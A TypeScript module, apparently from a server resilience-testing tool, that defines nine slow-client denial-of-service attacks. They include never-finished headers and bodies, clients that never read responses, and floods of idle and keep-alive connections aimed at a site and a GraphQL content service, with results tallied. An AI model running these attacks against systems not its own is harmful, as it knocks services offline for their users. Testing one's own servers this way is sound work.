/** Clients that occupy connections: they send or read slowly, or do nothing. */
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackContext } from '../attack.ts';
import { openSocket } from '../connection.ts';
import { createRequest } from '../request.ts';

const CONNECTIONS = 500;

/** More than either server accepts. */
const MANY_CONNECTIONS = 6000;

/** How many connections are opened at once. More would only fill the queue of the operating system. */
const OPEN_AT_ONCE = 100;

const OPEN_INTERVAL_MS = 20;
const DRIP_INTERVAL_MS = 500;

interface SlowClients {
  url: (context: AttackContext) => URL;
  connections: number;
  /** Sent once on each connection. */
  first: Buffer | string;
  /** Sent repeatedly. */
  drip?: Buffer | string;
  /** The client never reads. */
  isStalled?: boolean;
}

/** Opens connections, keeps them open until the end of the attack, and replaces those that the server closes, within the limit of requests. */
async function occupy(context: AttackContext, { url, connections, first, drip, isStalled = false }: SlowClients): Promise<void> {
  const { tally, maxRequests, endsAt } = context;
  const sockets = new Set<Socket>();
  let opened = 0;
  let closedByServer = 0;
  let mostOpen = 0;
  const open = () => {
    opened += 1;
    const socket = openSocket(url(context));
    sockets.add(socket);
    if (isStalled) socket.pause();
    else socket.resume();
    socket.once('connect', () => socket.write(first));
    socket.once('close', () => {
      if (sockets.delete(socket)) closedByServer += 1;
    });
  };
  while (performance.now() < endsAt) {
    const missing = Math.min(OPEN_AT_ONCE, connections - sockets.size, maxRequests - opened);
    for (let count = 0; count < missing; count++) open();
    await sleep(missing > 0 ? OPEN_INTERVAL_MS : DRIP_INTERVAL_MS);
    mostOpen = Math.max(mostOpen, [...sockets].filter(({ readyState }) => readyState === 'open').length);
    if (drip !== undefined) for (const socket of sockets) if (socket.writable) socket.write(drip);
  }
  const remaining = [...sockets];
  sockets.clear();
  for (const socket of remaining) socket.destroy();
  for (let index = 0; index < closedByServer; index++) tally.count('closed');
  for (let index = 0; index < remaining.length; index++) tally.count('open at the end');
  tally.figures.push(`at most ${mostOpen} connections were open at the same time`);
}

const site = ({ target }: AttackContext) => target.site;
const content = ({ target }: AttackContext) => target.content;

const form = 'content-type: application/x-www-form-urlencoded\r\nsec-fetch-site: same-origin\r\ncontent-length: 100000\r\n\r\nname=';
const json = 'content-type: application/json\r\ncontent-length: 900000\r\n\r\n{"query":"';

/** Enough uncompressed pages that they do not fit into the buffers of the operating system. */
const manyPages = Buffer.concat(Array.from({ length: 100 }, () => createRequest('GET', '/').bytes));

const manyQueries = createRequest(
  'POST',
  '/graphql',
  { 'content-type': 'application/json' },
  '{"query":"{ pages(first: 100) { nodes { blocksJSON } } }"}',
).bytes;

const variants: readonly ({ name: string; description: string } & SlowClients)[] = [
  {
    name: 'headers',
    description: 'never finish their headers',
    url: site,
    connections: CONNECTIONS,
    first: 'GET / HTTP/1.1\r\nhost: x\r\n',
    drip: 'x-a: b\r\n',
  },
  {
    name: 'headers-content',
    description: 'never finish their headers, at the content service',
    url: content,
    connections: CONNECTIONS,
    first: 'POST /graphql HTTP/1.1\r\nhost: x\r\n',
    drip: 'x-a: b\r\n',
  },
  {
    name: 'bodies',
    description: 'never finish a form',
    url: site,
    connections: CONNECTIONS,
    first: `POST /api/forms/contact/ HTTP/1.1\r\nhost: x\r\n${form}`,
    drip: 'a',
  },
  {
    name: 'bodies-content',
    description: 'never finish a query',
    url: content,
    connections: CONNECTIONS,
    first: `POST /graphql HTTP/1.1\r\nhost: x\r\n${json}`,
    drip: 'a',
  },
  {
    name: 'readers',
    description: 'request pages and never read them',
    url: site,
    connections: CONNECTIONS,
    first: manyPages,
    isStalled: true,
  },
  {
    name: 'readers-content',
    description: 'send queries and never read the responses',
    url: content,
    connections: CONNECTIONS,
    first: manyQueries,
    isStalled: true,
  },
  { name: 'idle', description: 'send nothing', url: site, connections: MANY_CONNECTIONS, first: '' },
  { name: 'idle-content', description: 'send nothing, at the content service', url: content, connections: MANY_CONNECTIONS, first: '' },
  {
    name: 'keep-alive',
    description: 'send one request and keep the connection',
    url: site,
    connections: MANY_CONNECTIONS,
    first: createRequest('HEAD', '/').bytes,
  },
];

export const slowClientAttacks: readonly Attack[] = variants.map(({ name, description, ...clients }) => ({
  name: `slow-${name}`,
  description: `${clients.connections} clients ${description}.`,
  maxRequests: 4 * clients.connections,
  run: async (context) => await occupy(context, clients),
}));
